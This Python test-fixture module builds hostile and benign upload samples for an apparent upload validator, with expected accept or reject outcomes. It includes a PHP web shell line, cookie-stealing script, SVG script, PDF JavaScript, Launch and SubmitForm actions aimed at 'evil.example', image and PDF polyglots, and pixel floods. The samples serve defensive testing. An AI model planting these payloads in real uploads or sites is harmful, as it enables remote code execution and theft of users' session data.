"""Hostile and benign upload samples, generated in memory with Pillow and pikepdf (no downloads).

Bytes are built on first use (``Sample.data``), so collecting the tests stays fast.
"""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms
from PIL.PngImagePlugin import PngInfo

from wizard.uploads import LOGO_KINDS, PROOF_KINDS

LIMIT = 10 * 2**20
PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
ZIP_PAYLOAD = b"shell.php" + PHP


@dataclass
class Sample:
    klass: str
    name: str
    make: Callable[[], bytes]
    filename: str
    verdict: str = "reject"
    allowed: tuple[str, ...] = PROOF_KINDS
    max_bytes: int = LIMIT
    payload: bytes | None = None  # accepted samples: bytes that must not survive into the stored file
    kind: str | None = None
    size: tuple[int, int] | None = None  # accepted images: (width, height) after applying the orientation
    reason: str | None = None  # rejected samples: words the message must contain

    @cached_property
    def data(self) -> bytes:
        return self.make()


SAMPLES: list[Sample] = []


def add(*args, **kwargs) -> None:
    SAMPLES.append(Sample(*args, **kwargs))


def corpus() -> list[Sample]:
    return list(SAMPLES)


# ---- builders -------------------------------------------------------------------------------------------------


def picture(mode="RGB", size=(64, 48)) -> Image.Image:
    g = Image.linear_gradient("L").resize(size)
    rgb = Image.merge("RGB", (g, g.transpose(Image.Transpose.ROTATE_90).resize(size), Image.new("L", size, 90)))
    if mode in ("LA", "RGBA"):
        rgb = rgb.convert(mode[:-1])
        rgb.putalpha(g)
        return rgb
    return {"P": lambda: rgb.convert("P", palette=Image.Palette.ADAPTIVE), "I;16": lambda: g.convert("I;16")}.get(
        mode, lambda: rgb.convert(mode))()


def encode(fmt="PNG", mode="RGB", size=(64, 48), **options) -> bytes:
    buf = io.BytesIO()
    picture(mode, size).save(buf, fmt, **options)
    return buf.getvalue()


def exif(orientation=1, description: bytes | None = None, gps=False) -> Image.Exif:
    ex = Image.Exif()
    ex[0x0112] = orientation
    if description:
        ex[0x010E] = description.decode()
    if gps:
        ex[0x8825] = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 17.0, 40.0)}
    return ex


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def raw_png(width: int, height: int, depth: int, colour: int, row: bytes) -> bytes:
    """A PNG whose rows all equal ``row``, compressed in slices so that a pixel flood costs little memory."""
    z, step = zlib.compressobj(9), max(1, 4_000_000 // len(row))
    body = b"".join(z.compress(row * min(step, height - y)) for y in range(0, height, step)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def jpeg_claiming(width: int, height: int) -> bytes:
    data = bytearray(encode("JPEG", size=(16, 16)))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def screenshot(width: int, height: int) -> bytes:
    im = Image.new("RGB", (width, height), (246, 247, 249))
    for y in range(0, height, 40):  # flat bands like a UI: compresses as well as real screenshots do
        im.paste((30 + y % 200, 60, 120), (40, y, width - 40, y + 12))
    buf = io.BytesIO()
    im.save(buf, "PNG")
    return buf.getvalue()


def text_chunk(method: str) -> PngInfo:
    info = PngInfo()
    getattr(info, method)("Comment", PHP.decode())
    return info


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        for name, body in files.items():
            zf.writestr(name, body)
    return buf.getvalue()


def pdf(pages=1, edit: Callable[[pikepdf.Pdf], None] | None = None, text: str | None = None, **save) -> bytes:
    doc = pikepdf.new()
    for _ in range(pages):
        doc.add_blank_page(page_size=(595, 842))
    if text:
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        doc.pages[0].Resources = Dictionary(Font=Dictionary(F1=font))
        doc.pages[0].Contents = doc.make_stream(f"BT /F1 18 Tf 72 760 Td ({text}) Tj ET".encode())
    if edit:
        edit(doc)
    buf = io.BytesIO()
    doc.save(buf, **save)
    return buf.getvalue()


def raw_pdf(*bodies: bytes, header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """A hand-written PDF: object 1 is the catalog (plus ``bodies[0]``), 2 the pages, 3 the page, 4.. the rest."""
    objs = [b"<< /Type /Catalog /Pages 2 0 R " + (bodies[0] if bodies else b"") + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>", *bodies[1:]]
    out, offsets = bytearray(header), []
    for number, body in enumerate(objs, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1) + b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def js() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def annotate(action: Dictionary | None = None, **annot) -> Callable[[pikepdf.Pdf], None]:
    fields = {"Type": Name.Annot, "Subtype": Name.Link, "Rect": Array([72, 72, 200, 100]), **annot}
    return lambda doc: doc.pages[0].obj.__setitem__("/Annots", Array([doc.make_indirect(
        Dictionary(**fields, **({"A": action} if action is not None else {})))]))


def catalog(**entries) -> Callable[[pikepdf.Pdf], None]:
    def edit(doc: pikepdf.Pdf) -> None:
        for key, value in entries.items():
            doc.Root[Name("/" + key)] = value(doc) if callable(value) else value
    return edit


def attach(doc: pikepdf.Pdf) -> None:
    doc.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(doc, b"MZ\x90\x00 not really a program")


def scanned(doc: pikepdf.Pdf) -> None:
    image = doc.make_stream(encode("JPEG", size=(400, 300)), Type=Name.XObject, Subtype=Name.Image, Width=400,
                            Height=300, ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode)
    doc.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))
    doc.pages[0].Contents = doc.make_stream(b"q 400 0 0 300 72 400 cm /Im0 Do Q")


def cut(make: Callable[[], bytes], keep: float) -> Callable[[], bytes]:
    return lambda: make()[: int(len(make()) * keep)]


def const(data: bytes) -> Callable[[], bytes]:
    return lambda: data


png, jpg, objstm = (lambda: encode("PNG")), (lambda: encode("JPEG")), pikepdf.ObjectStreamMode.generate

# ---- hostile: F1 ----------------------------------------------------------------------------------------------

add("oversize", "oversize-10mb-plus-1", lambda: b"\x89PNG\r\n\x1a\n" + bytes(LIMIT - 7), "a.png", reason="10 MB")
add("oversize", "oversize-small-limit-jpeg", jpg, "a.jpg", max_bytes=100, reason="larger than 100 bytes")
add("oversize", "oversize-pdf", pdf, "a.pdf", max_bytes=500, reason="larger")
# The content decides, not the name (domain.md §8, issue 17 item 10): a real PNG, JPEG or PDF named without
# an extension or with a wrong one is accepted as what it is. (Until then these were refused for their name.)
for name, make, filename, kind in [
        ("png-as-jpg", png, "a.jpg", "png"), ("jpeg-as-png", jpg, "a.png", "jpeg"), ("pdf-as-png", pdf, "a.png", "pdf"),
        ("png-as-pdf", png, "a.pdf", "png"), ("jpeg-as-pdf", jpg, "a.pdf", "jpeg"), ("png-no-ext", png, "image", "png"),
        ("jpeg-phone-no-ext", jpg, "IMG_0001", "jpeg"), ("png-screenshot", png, "screenshot", "png"),
        ("pdf-no-ext", pdf, "scan", "pdf"), ("png-as-php", png, "a.php", "png"),
        ("png-double-ext", png, "a.png.php", "png"), ("jpeg-as-gif", jpg, "a.gif", "jpeg")]:
    add("named-by-content", name, make, filename, "accept", kind=kind, size=None if kind == "pdf" else (64, 48))
# A NUL or a folder in the name is a hand-made request, never a browser's: still refused.
add("wrong-extension", "png-nul-php", png, "a.png\x00.php", reason="name")
add("kind-not-allowed", "pdf-as-logo", pdf, "logo.pdf", allowed=LOGO_KINDS, reason="PNG or JPEG")
for klass, name, data, filename in [
        ("markup", "html-as-png", HTML, "a.png"), ("markup", "html-as-pdf", HTML, "a.pdf"),
        ("markup", "js-as-jpg", b"alert(1);", "a.jpg"), ("markup", "php-as-png", PHP, "a.png"),
        ("markup", "html-before-pdf", HTML + b"\n%PDF-1.4\n", "a.pdf"), ("svg", "svg-as-svg", SVG, "a.svg"),
        ("svg", "svg-as-png", SVG, "a.png"), ("svg", "svg-xml-as-png", b'<?xml version="1.0"?>' + SVG, "a.png"),
        ("svg", "svg-as-pdf", SVG, "a.pdf"), ("eicar", "eicar-as-pdf", EICAR, "a.pdf"),
        ("eicar", "eicar-as-png", EICAR, "a.png"),
        ("other-image-format", "fits-as-png", b"SIMPLE  =                    T".ljust(2880), "a.png")]:
    add(klass, name, const(data), filename, reason="must be a PNG, JPEG or PDF")
for fmt in ("TIFF", "GIF", "WEBP", "BMP", "ICO", "JPEG2000", "PPM", "TGA"):
    add("other-image-format", f"{fmt.lower()}-as-png", lambda f=fmt: encode(f), "a.png", reason="must be")
for name, make, filename in [("zip-as-pdf", lambda: zip_bytes({"a.txt": b"hi"}), "a.pdf"),
                             ("docx-as-pdf", lambda: zip_bytes({"[Content_Types].xml": b"<Types/>",
                                                                "word/document.xml": b"<w/>"}), "cv.docx.pdf"),
                             ("gzip-as-pdf", lambda: gzip.compress(b"%PDF-1.4"), "a.pdf"),
                             ("zip-as-png", lambda: zip_bytes({"x": b"1"}), "a.png")]:
    add("archive", name, make, filename, reason="must be")
# Pixel floods are refused from the header, before a single pixel is decoded.
add("pixel-flood", "flood-png-1bit-30000", lambda: raw_png(30000, 30000, 1, 0, bytes(3751)), "a.png", reason="pixels")
add("pixel-flood", "flood-png-gray-6500", lambda: raw_png(6500, 6500, 8, 0, bytes(6501)), "a.png", reason="pixels")
add("pixel-flood", "flood-png-wide", lambda: raw_png(2_000_000, 21, 1, 0, bytes(250_001)), "a.png", reason="pixels")
add("pixel-flood", "flood-jpeg-65000", lambda: jpeg_claiming(65000, 65000), "a.jpg", reason="pixels")
add("pixel-flood", "flood-jpeg-7000", lambda: jpeg_claiming(7000, 7000), "a.jpg", reason="pixels")
for name, make, filename in [
        ("truncated-png", cut(lambda: encode("PNG", size=(300, 200)), 0.5), "a.png"),
        ("truncated-jpeg", cut(lambda: encode("JPEG", size=(300, 200)), 0.5), "a.jpg"),
        ("truncated-progressive", cut(lambda: encode("JPEG", size=(300, 200), progressive=True), 0.6), "a.jpg"),
        ("truncated-pdf", cut(lambda: pdf(3), 0.5), "a.pdf"), ("pdf-header-only", const(b"%PDF-1.7\n%%EOF\n"), "a.pdf"),
        ("png-bad-crc", lambda: encode("PNG")[:40] + b"\xff" + encode("PNG")[41:], "a.png"),
        ("png-header-only", cut(png, 0.2), "a.png"),
        ("pdf-broken-xref", lambda: raw_pdf().replace(b"startxref\n", b"startxref\n9"), "a.pdf"),
        ("pdf-deep-nesting", lambda: raw_pdf(b"/Deep " + b"[" * 1000 + b"]" * 1000), "a.pdf")]:
    add("truncated-or-corrupt", name, make, filename)
add("empty", "empty-png", const(b""), "a.png", reason="empty")
add("empty", "empty-pdf", const(b""), "a.pdf", reason="empty")
# Active PDF content, one sample per way of carrying it.
for name, edit, reason in [
        ("pdf-javascript-names", catalog(Names=lambda d: Dictionary(
            JavaScript=Dictionary(Names=Array([String("x"), d.make_indirect(js())])))), "JavaScript"),
        ("pdf-openaction-js", catalog(OpenAction=js()), "by itself"),
        ("pdf-openaction-uri", catalog(OpenAction=Dictionary(S=Name.URI, URI=String("https://x.example"))),
         "by itself"),
        ("pdf-link-javascript", annotate(js()), "JavaScript"),
        ("pdf-launch", annotate(Dictionary(S=Name.Launch, F=String("calc.exe"))), "programs"),
        ("pdf-embedded-files", attach, "attached files"),
        ("pdf-file-attachment-annot", annotate(Subtype=Name.FileAttachment), "attached files"),
        ("pdf-xfa", catalog(AcroForm=Dictionary(Fields=Array(), XFA=Array([String("x"), String("<xdp/>")]))), "XFA"),
        ("pdf-page-aa", lambda d: d.pages[0].obj.__setitem__("/AA", Dictionary(O=js())), "by itself"),
        ("pdf-catalog-aa", catalog(AA=Dictionary(WC=js())), "by itself"),
        ("pdf-richmedia", annotate(Subtype=Name.RichMedia), "media"),
        ("pdf-submitform", annotate(Dictionary(S=Name.SubmitForm, F=String("https://evil.example"))), "send data"),
        ("pdf-gotor", annotate(Dictionary(S=Name.GoToR, F=String("other.pdf"))), "other files"),
        ("pdf-too-many-objects", lambda d: d.Root.__setitem__("/Junk", Array([d.make_indirect(Dictionary(N=i))
                                                                             for i in range(50_001)])), "complex")]:
    add("pdf-active", name, lambda e=edit: pdf(1, e, object_stream_mode=objstm), "a.pdf", reason=reason)
add("pdf-active", "pdf-too-many-pages", lambda: pdf(201), "a.pdf", reason="more than 200 pages")
add("pdf-active", "pdf-js-hex-escaped-name", lambda: raw_pdf(
    b"/Names << /J#61vaScript << /Names [(a) << /S /J#61vaScript /J#53 (x) >>] >> >>"), "a.pdf", reason="JavaScript")
add("pdf-active", "pdf-js-in-stream", lambda: raw_pdf(
    b"/Names << /JavaScript 4 0 R >>", b"<< /Names [(a) 5 0 R] >>", b"<< /S /JavaScript /JS 6 0 R >>",
    b"<< /Length 8 >>\nstream\napp.x();\nendstream"), "a.pdf", reason="JavaScript")
for who, password in [("user", "secret"), ("owner-only", "")]:
    add("pdf-encrypted", f"pdf-encrypted-{who}", lambda p=password: pdf(
        encryption=pikepdf.Encryption(owner="owner", user=p)), "a.pdf", reason="encrypted")
for name, make in [("pdf-html-appended", lambda: pdf() + HTML), ("pdf-junk-appended", lambda: pdf() + b"junk"),
                   ("pdf-zip-appended", lambda: pdf() + zip_bytes({"x.php": PHP})),
                   ("pdf-html-in-header", lambda: raw_pdf(header=b"%PDF-1.4\n%" + HTML + b"\n")),
                   ("pdf-zip-inside", lambda: raw_pdf(b"", b"<< >>\nstream\n" + zip_bytes({"x": PHP}) + b"\nendstream"))
                   ]:
    add("pdf-polyglot", name, make, "a.pdf", reason="hidden")
# Image polyglots: something appended after the image's end is refused (issue 4), even when it ends in "IEND".
for name, make in [
        ("jpeg-html-appended", lambda: encode("JPEG") + HTML),
        ("jpeg-zip-appended", lambda: encode("JPEG") + zip_bytes({"s": ZIP_PAYLOAD})),
        ("jpeg-progressive-zip-appended", lambda: encode("JPEG", progressive=True) + zip_bytes({"s": ZIP_PAYLOAD})),
        ("jpeg-appended-fake-eoi", lambda: encode("JPEG") + SCRIPT + b"\xff\xd9"),
        ("png-zip-appended", lambda: encode("PNG") + zip_bytes({"s": ZIP_PAYLOAD})),
        ("png-html-appended", lambda: encode("PNG") + HTML),
        ("png-appended-fake-iend", lambda: encode("PNG") + SCRIPT + encode("PNG")[-12:])]:
    add("image-polyglot", name, make, f"a.{name.split('-')[0]}", reason="appended")
# Accepted, because re-encoding keeps only the pixels: none of the payload may reach the stored file.
for name, make, payload in [
        ("jpeg-php-in-exif", lambda: encode("JPEG", exif=exif(1, PHP)), PHP),
        ("jpeg-script-in-comment", lambda: encode("JPEG", comment=SCRIPT), SCRIPT),
        ("jpeg-script-in-xmp", lambda: encode("JPEG", xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"), SCRIPT),
        ("jpeg-php-in-icc", lambda: encode("JPEG", icc_profile=PHP * 4), PHP),
        ("png-php-in-text", lambda: encode("PNG", pnginfo=text_chunk("add_text")), PHP),
        ("png-php-in-itxt", lambda: encode("PNG", pnginfo=text_chunk("add_itxt")), PHP),
        ("png-php-in-exif", lambda: encode("PNG", exif=exif(1, PHP)), PHP),
        ("png-php-in-private-chunk", lambda: encode("PNG")[:-12] + chunk(b"prVt", PHP) + encode("PNG")[-12:], PHP)]:
    kind = name.split("-")[0]
    add("payload-stripped", name, make, f"a.{kind}", "accept", payload=payload, kind=kind, size=(64, 48))

# ---- benign: F2 -----------------------------------------------------------------------------------------------

SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
for o in (1, 3, 5, 6, 8):  # 5-8 swap width and height
    add("benign", f"jpeg-exif-orientation-{o}-gps", lambda o=o: encode("JPEG", exif=exif(o, gps=True)), "IMG_1234.JPG",
        "accept", kind="jpeg", size=(48, 64) if o >= 5 else (64, 48))
for name, mode, size, options in [
        ("cmyk", "CMYK", (64, 48), {}), ("progressive", "RGB", (320, 240), {"progressive": True}),
        ("grayscale", "L", (64, 48), {}), ("q100-444", "RGB", (64, 48), {"quality": 100, "subsampling": 0}),
        ("one-pixel", "RGB", (1, 1), {}), ("full-hd", "RGB", (1920, 1080), {"quality": 85}),
        ("icc-srgb", "RGB", (64, 48), {"icc_profile": SRGB}),
        ("optimised", "RGB", (200, 100), {"optimize": True})]:
    add("benign", f"jpeg-{name}", lambda m=mode, z=size, op=options: encode("JPEG", m, z, **op), f"{name}.jpeg",
        "accept", kind="jpeg", size=size)
# Beyond MAX_PHOTO_SIDE (2,048 px) a photo is kept reduced by a power of two, its orientation still applied.
for name, size, options, kept in [
        ("camera-4000x3000", (4000, 3000), {"quality": 80}, (2000, 1500)),
        ("progressive-4096x2304-orientation-6", (4096, 2304), {"progressive": True, "exif": exif(6)}, (1152, 2048)),
        ("strip-20000x60", (20000, 60), {}, (2048, 7))]:
    add("benign", f"jpeg-{name}", lambda z=size, op=options: encode("JPEG", "RGB", z, **op), f"{name}.jpg",
        "accept", kind="jpeg", size=kept)
add("benign", "jpeg-logo", lambda: encode("JPEG", size=(300, 100)), "logo.jpg", "accept", LOGO_KINDS, kind="jpeg",
    size=(300, 100))
for name, make, size in [
        *[(f"png-{m.lower().replace(';', '')}", lambda m=m: encode("PNG", m), (64, 48))
          for m in ("RGB", "RGBA", "LA", "L", "1", "P", "I;16")],
        ("png-palette-transparency", lambda: encode("PNG", "P", transparency=0), (64, 48)),
        ("png-16bit-rgb", lambda: raw_png(64, 48, 16, 2, b"\0" + bytes(range(256)) + bytes(128)), (64, 48)),
        ("png-screenshot-4000x3000", lambda: screenshot(4000, 3000), (4000, 3000)),
        ("png-tall", lambda: encode("PNG", size=(100, 3000)), (100, 3000)),
        ("png-animated", lambda: encode("PNG", save_all=True, append_images=[picture().rotate(180)]), (64, 48))]:
    add("benign", name, make, f"{name}.PNG", "accept", kind="png", size=size)
add("benign", "png-logo", lambda: encode("PNG", "RGBA", (512, 512)), "logo.png", "accept", LOGO_KINDS, kind="png",
    size=(512, 512))
for name, make in [
        ("pdf-blank", pdf), ("pdf-3-pages", lambda: pdf(3)), ("pdf-200-pages", lambda: pdf(200)),
        ("pdf-text", lambda: pdf(text="Certificate of membership")), ("pdf-12-pages", lambda: pdf(12, text="Report")),
        ("pdf-link-uri", lambda: pdf(edit=annotate(Dictionary(S=Name.URI, URI=String("https://example.org"))))),
        ("pdf-plain-form", lambda: pdf(edit=catalog(AcroForm=Dictionary(Fields=Array())))),
        ("pdf-openaction-fit", lambda: pdf(edit=catalog(OpenAction=lambda d: Array([d.pages[0].obj, Name.Fit])))),
        ("pdf-openaction-goto", lambda: pdf(edit=catalog(OpenAction=lambda d: Dictionary(
            S=Name.GoTo, D=Array([d.pages[0].obj, Name.Fit]))))),
        ("pdf-object-streams", lambda: pdf(5, object_stream_mode=objstm)),
        ("pdf-linearized", lambda: pdf(4, text="Fast web view", linearize=True)),
        ("pdf-2.0", lambda: pdf(force_version="2.0")), ("pdf-handwritten", raw_pdf),
        ("pdf-trailing-whitespace", lambda: pdf() + b"\r\n \n"), ("pdf-scanned-jpeg", lambda: pdf(edit=scanned))]:
    add("benign", name, make, f"{name}.pdf", "accept", kind="pdf")
